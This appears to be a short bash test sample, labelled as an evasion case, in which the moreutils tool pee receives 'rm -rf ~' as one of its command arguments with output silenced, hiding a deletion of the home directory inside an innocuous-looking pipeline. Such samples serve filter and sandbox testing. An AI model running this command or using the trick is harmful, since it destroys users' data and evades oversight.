#!/bin/bash
# Evasion: one of pee's command lines deletes the home
set -u
printf 'done\n' | pee 'cat' 'rm -rf ~ >/dev/null 2>&1'
